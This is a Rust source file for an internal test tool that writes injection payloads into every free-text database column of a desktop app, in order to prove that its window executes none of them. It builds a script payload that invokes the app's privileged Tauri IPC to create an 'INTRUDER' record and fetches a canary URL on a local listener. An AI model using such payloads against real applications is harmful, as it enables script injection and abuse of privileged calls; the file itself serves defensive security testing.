//! Makes a workspace in which every text says something that would like to run: for the proof that in the real window
//! nothing does. Every column of text is found by asking the file, so that a new one is hostile from its first day. Never shipped.
//!
//! `hallway-hostile --file F --payloads N --outside http://127.0.0.1:PORT [--seed N]` prints `{"people":[…],"texts":[…],"columns":N,"lists":[…]}`.
mod community;
mod texts;

use acts::prove::Chance;
use hallway_core::{
    Now, Store, dispatch, open,
    store::{Memory, Tx},
};
use serde_json::json;
use std::{collections::HashMap, error::Error, path::Path};
use texts::{BREAKS, PAYLOADS};

/// Columns that hold words of Hallway's own, or ids, dates and JSON it wrote: another word there is a damaged file, and said
/// to be one. Every other column of text gets hostile text.
const OUR_WORDS: &[(&str, &[&str])] = &[
    ("settings", &["key", "value"]),
    ("organisations", &["kind"]),
    ("people", &["country", "time_zone", "languages"]),
    ("contact_points", &["kind", "status", "source", "obtained_on"]),
    ("postal_addresses", &["country", "source", "given_on", "expires_on"]),
    ("tags", &["kind"]),
    ("fields", &["kind", "choices"]),
    ("field_values", &["date"]),
    ("touchpoints", &["kind", "on_day", "precision", "zone", "direction", "intent", "source"]),
    ("touchpoint_people", &["role", "observed_stage", "observed_by"]),
    ("followups", &["kind", "due", "zone", "hidden_until", "every", "begun", "unless", "status", "settled_on"]),
    ("set_aside", &["key", "on_day", "until_day"]),
    ("views", &["sort", "layout", "columns"]),
    ("list_people", &["on_day"]),
    ("exports_made", &["purpose", "channel", "template", "columns", "left_out", "sha256"]),
    ("contact_bases", &["purpose", "basis", "recorded_on"]),
    ("objections", &["kind", "on_day"]),
    ("suppression_keys", &["secret"]),
    ("suppressions", &["hash", "kind", "reason", "on_day", "lifted_on"]),
    ("stage_changes", &["axis", "from_stage", "to_stage", "on_day", "status", "cause", "evidence"]),
    ("stage_pins", &["axis", "stage", "on_day", "until", "until_day"]),
    ("imports", &["layout"]),
    ("operations", &["command", "subject_tbl"]),
    ("changes", &["op", "tbl", "old", "new"]),
    ("journey_configs", &["config"]),
    ("import_runs", &["kind", "file_hash", "request", "phase", "done", "place"]),
    ("import_layouts", &["headers", "mapping", "days"]),
    ("erasures", &["why", "gone", "kept", "backups"]),
    ("open_followups", &["kind", "due_on", "shown_on"]),
    ("in_touch", &["last_on", "ideal_on", "lost_on"]),
    ("unsaved_lines", &["key"]),
    ("reminders_told", &["key"]),
    ("looked", &["page"]),
    ("erased", &["tbl"]),
    ("words_due", &["indexed"]),
    (
        "person_state",
        &[
            "country",
            "stage",
            "since",
            "confidence",
            "presence",
            "ring",
            "last_touch_on",
            "last_kind",
            "next_change_on",
        ],
    ),
];

fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let options: HashMap<&str, &str> =
        arguments.chunks_exact(2).map(|pair| (pair[0].as_str(), pair[1].as_str())).collect();
    let needed = |name: &str| options.get(name).copied().ok_or_else(|| format!("say which {name}"));
    let outside = needed("--outside")?;
    let mut chance = Chance(options.get("--seed").map_or(Ok(1), |seed| seed.parse())?);
    let count: usize = needed("--payloads")?.parse()?;
    let ran = format!(
        "window.ran=1;__TAURI_INTERNALS__.invoke('rpc',{{cmd:'people.create',input:{{displayName:'INTRUDER'}},request:''}});fetch('{outside}/ran')"
    );
    // Every payload by itself first, and then behind what could come before it.
    let texts: Vec<String> = (0..count)
        .map(|n| {
            let (payload, before) = (PAYLOADS[n % PAYLOADS.len()], BREAKS[n / PAYLOADS.len() % BREAKS.len()]);
            format!("{before}{}", payload.replace('§', &ran).replace('¤', outside)).replace('\0', "")
        })
        .collect();

    let path = Path::new(needed("--file")?);
    let store = open(path, Now::system(), 1, "UTC")?;
    let people = community::community(&store, path.parent().ok_or("say a file in a folder")?, &texts)?;
    let columns = hostile(&store, &texts, &mut chance)?;
    dispatch(&store, Now::system(), "workspace.set_up", json!({ "product": texts[0], "zone": "UTC" }))?;
    let lists = dispatch(&store, Now::system(), "lists.list", json!({}))?.value;
    let lists: Vec<_> = lists.as_array().into_iter().flatten().map(|list| list["id"].clone()).collect();
    println!("{}", json!({ "people": people, "texts": texts, "columns": columns, "lists": lists }));
    Ok(())
}

/// What tells the rows of a table apart.
fn key_of(tx: &Tx, table: &str) -> hallway_core::Result<String> {
    let without: Option<bool> =
        tx.scalar("SELECT wr FROM pragma_table_list WHERE schema = 'main' AND name = ?1", [table])?;
    if without != Some(true) {
        return Ok("rowid".to_owned());
    }
    Ok(tx.column::<String>("SELECT name FROM pragma_table_info(?1) WHERE pk > 0 ORDER BY pk", [table])?.join(", "))
}

/// Writes the texts into every column of text that is not kept for words of ours, and says how many columns that were.
/// Behind the back of everything that would refuse one.
fn hostile(store: &Store, texts: &[String], chance: &mut Chance) -> Result<usize, Box<dyn Error>> {
    let mut columns = 0;
    store.write("workspace.begin", Memory::Recorded, Now::system(), |tx| {
        // Every table of the file, what is worked out and what is under way too, but for the index of words.
        let tables: Vec<String> =
            tx.column("SELECT name FROM pragma_table_list WHERE schema = 'main' AND type = 'table' AND name NOT LIKE 'sqlite_%'", [])?;
        for table in &tables {
            let ours = OUR_WORDS.iter().find(|(name, _)| name == table).map_or(&[][..], |(_, columns)| columns);
            let key = key_of(tx, table)?;
            let all: Vec<String> = tx.column("SELECT name FROM pragma_table_info(?1) WHERE type = 'TEXT'", [table])?;
            let hostile: Vec<&String> = all.iter().filter(|column| !ours.contains(&column.as_str())).collect();
            // Nothing would be seen of a table in which nothing stands.
            if !hostile.is_empty() && tx.scalar::<i64>(&format!("SELECT 1 FROM {table} LIMIT 1"), [])?.is_none() {
                return Err(hallway_core::Error::Invalid {
                    field: "table".into(),
                    message: format!("Nothing stands in {table}: put something there in community.rs."),
                });
            }
            for column in hostile {
                columns += 1;
                let rows: Vec<(usize, String)> = (0..texts.len()).map(|n| (n, texts[n].clone())).collect();
                let turn = chance.roll(texts.len() as u64) as usize;
                for (n, text) in rows {
                    // Each text meets each row of some table, in an order of its own for every column.
                    tx.sql().execute(
                        &format!(
                            "UPDATE {table} SET {column} = ?1 WHERE ({key}) IN (SELECT {key} FROM (SELECT {key}, row_number() OVER (ORDER BY {key}) AS n FROM {table}) WHERE n % ?2 = ?3)"
                        ),
                        (text, texts.len() as i64, ((n + turn) % texts.len()) as i64),
                    )?;
                }
            }
        }
        tx.mark_changed("people");
        Ok(())
    })?;
    Ok(columns)
}
